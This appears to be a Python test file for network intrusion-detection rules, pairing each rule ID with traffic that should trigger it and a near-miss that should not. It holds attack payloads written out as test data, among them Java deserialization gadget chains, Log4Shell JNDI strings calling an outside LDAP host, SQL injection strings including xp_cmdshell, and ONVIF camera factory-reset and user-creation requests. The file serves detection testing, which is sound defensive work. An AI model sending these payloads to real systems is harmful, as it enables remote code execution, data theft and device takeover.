# SPDX-License-Identifier: Apache-2.0
"""Talks for the rules of terminal.rules: (sid, fires, near miss[, sids besides])."""
import struct
import zlib

from kit import *

JAVA = b"\xac\xed\0\x05sr\0\x13java.util.ArrayList"
BASIC = lambda user: b"Authorization: Basic " + user + b"\r\n"
ONVIF = lambda word: b'<s:Envelope xmlns:t="http://www.onvif.org/ver10/device/wsdl"><s:Body><t:' + word + b" /></s:Body></s:Envelope>"
LONG = ".".join(["a" * 50, "b" * 45, "example"])


def get(target, header=b"", port=80):
    return tcp(port, b"GET " + target + b" HTTP/1.1\r\nHost: portal.example\r\n" + header + b"\r\n")


def post(body, kind=b"application/octet-stream"):
    head = b"POST /ulc HTTP/1.1\r\nHost: tos.example\r\nContent-Type: " + kind + b"\r\nContent-Length: "
    return tcp(80, head + str(len(body)).encode() + b"\r\n\r\n" + body)


def form(text):
    return post(text, b"application/x-www-form-urlencoded")


def pages(count, status):
    parts = []
    for _ in range(count):
        parts += [b"GET /live HTTP/1.1\r\nHost: camera.example\r\n\r\n",
                  [b"HTTP/1.1 " + status + b"\r\nContent-Length: 0\r\n\r\n"]]
    return tcp(80, *parts)


def says(server_port, count, text):
    return tcp(server_port, b"log on\r\n", *([text + b"\r\n"] for _ in range(count)))


def asks(name, kind, count=1):
    return udp(53, *[traffic.dns_query(name, kind=kind)] * count)


def unknown(count, rcode=3):
    parts = []
    for number in range(count):
        query = traffic.dns_query(f"n{number}.example", ident=number)
        parts += [query, [query[:2] + struct.pack(">H", 0x8180 | rcode) + query[4:]]]
    return udp(53, *parts)


def snmp(kind):
    binding = ber(0x30, ber(6, b"\x2b\6\1\2\1\1\5\0"), ber(4, b"STS-14"))
    data = ber(kind, ber(2, b"\1"), ber(2, b"\0"), ber(2, b"\0"), ber(0x30, binding))
    return udp(161, ber(0x30, ber(2, b"\1"), ber(4, b"public"), data))


JAVA_ROWS = [
    (130101, post(JAVA), post(b"\0" + JAVA)),
    (130102, post(zlib.compress(JAVA * 9, 6)), post(zlib.compress(b"plain text " * 9, 6))),
    (130103, post(zlib.compress(JAVA * 9, 9)), post(zlib.compress(b"plain text " * 9, 9))),
    (130104, post(JAVA + b"org.apache.commons.collections.functors.InvokerTransformer"), post(b"InvokerTransformer" + JAVA), [130101]),
    (130105, post(JAVA + b"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"), post(b"TemplatesImpl" + JAVA), [130101]),
    (130106, get(b"/", b"User-Agent: ${jndi:ldap://198.51.100.1/a}\r\n"), get(b"/", b"User-Agent: $jndi:ldap\r\n")),
    (130107, get(b"/?q=%24%7Bjndi:ldap://198.51.100.1/a%7D"), get(b"/?q=jndi:ldap")),
]

SQL_ROWS = [
    (130201, get(b"/box?id=1%20UNION%20SELECT%20user"), get(b"/union/selected?id=1")),
    (130202, form(b"id=1+union+all+select+user"), form(b"name=credit+union&do=select")),
    (130203, get(b"/box?id=x'%20or%20'1'='1"), get(b"/box?or=1&id='x'%20or%20more=2")),
    (130204, get(b"/box?id=1;select+1+from+INFORMATION_SCHEMA.tables"), get(b"/information/schema")),
    (130205, get(b"/box?id=1;exec+xp_cmdshell"), get(b"/box?cmdshell=1")),
    (130206, get(b"/box?id=1;waitfor%20delay%20'0:0:9'"), get(b"/waitforit?delay=1")),
]

DATABASES = [
    (130301, says(1433, 5, "Login failed for user".encode("utf-16-le")), says(1433, 4, "Login failed for user".encode("utf-16-le"))),
    (130302, says(1521, 5, b"ORA-01017: invalid"), says(1521, 5, b"ORA-01018: other")),
    (130303, says(5432, 5, b"SFATAL\0C28P01\0M"), each(says(5432, 5, b"SFATAL\0C28000\0M"), says(5432, 4, b"SFATAL\0C28P01\0M"))),
    (130304, says(3306, 5, b"\xff\x15\x04#28000Access denied for user"), says(3306, 5, b"\xff\x15\x04#42000Access denied")),
]

PASSWORDS = [
    (130401, tcp(21, [b"220 quay\r\n"], b"USER crane\r\n", [b"331 go on\r\n"], b"PASS hoist\r\n"),
     tcp(21, [b"220 quay\r\n"], b"USER anonymous\r\n", [b"331 go on\r\n"], b"PASS me@example\r\n")),
    (130402, tcp(23, [b"login: "], b"crane\r\n", [b"Password: "]), tcp(23, [b"login: "], b"my Password: crane\r\n", [b"welcome\r\n"])),
    (130403, get(b"/", BASIC(b"Y3JhbmU6aG9pc3Q=")), get(b"/", b"Authorization: Bearer Y3JhbmU6aG9pc3Q=\r\nX-Was: Authorization: Basic Y3Jh\r\n")),
]

CAMERAS = [
    (130501, tcp(554, b"DESCRIBE rtsp://10.2.0.1/ RTSP/1.0\r\nCSeq: 2\r\n" + BASIC(b"YWRtaW46YWRtaW4=") + b"\r\n"),
     tcp(554, b"DESCRIBE rtsp://10.2.0.1/ RTSP/1.0\r\nCSeq: 2\r\n" + BASIC(b"YWRtaW46Z3JlZW4=") + b"\r\n")),
    (130502, says(554, 20, b"RTSP/1.0 401 Unauthorized\r\nCSeq: 2\r\n"), says(554, 20, b"RTSP/1.0 404 Not Found\r\nCSeq: 2\r\n")),
    (130503, pages(40, b"401 Unauthorized"), pages(39, b"401 Unauthorized")),
    (130504, post(ONVIF(b"SystemReboot")), each(post(ONVIF(b"GetSystemDateAndTime")), post(b"<SystemReboot />"))),
    (130505, post(ONVIF(b"SetSystemFactoryDefault")), each(post(ONVIF(b"GetSystemBackup")), post(b"<SetSystemFactoryDefault />"))),
    (130506, post(ONVIF(b"CreateUsers")), each(post(ONVIF(b"GetUsers")), post(b"<t:CreateUsers />"))),
]

READERS = [
    (130601, llrp(3, b"\x80"), llrp(2, bytes(7))),
    (130602, times(5, llrp(21, bytes(4))), times(4, llrp(21, bytes(4)))),
]

NAMES = [
    (130701, asks("port.example", 252), asks("port.example", 1)),
    (130702, asks(LONG, 16, 30), each(asks(LONG, 16, 29), asks(LONG, 1, 30))),
    (130703, asks("t.example", 10, 5), each(asks("t.example", 1, 5), asks("t.example", 10, 4))),
    (130704, unknown(200), unknown(200, 2)),
    (130705, udp(123, b"\x17\0\x03\x2a" + bytes(4)), each(udp(123, b"\x23\0\x06\xec" + bytes(44)), udp(123, bytes(12) + b"\x17\0\x03\x2a"))),
    (130706, snmp(0xA3), snmp(0xA0)),
    (130707, udp(69, b"\0\2crane.bin\0octet\0"), each(udp(69, b"\0\1crane.bin\0octet\0"), udp(69, b"\0\1\0\2.bin\0octet\0"))),
]

ROWS = JAVA_ROWS + SQL_ROWS + DATABASES + PASSWORDS + CAMERAS + READERS + NAMES
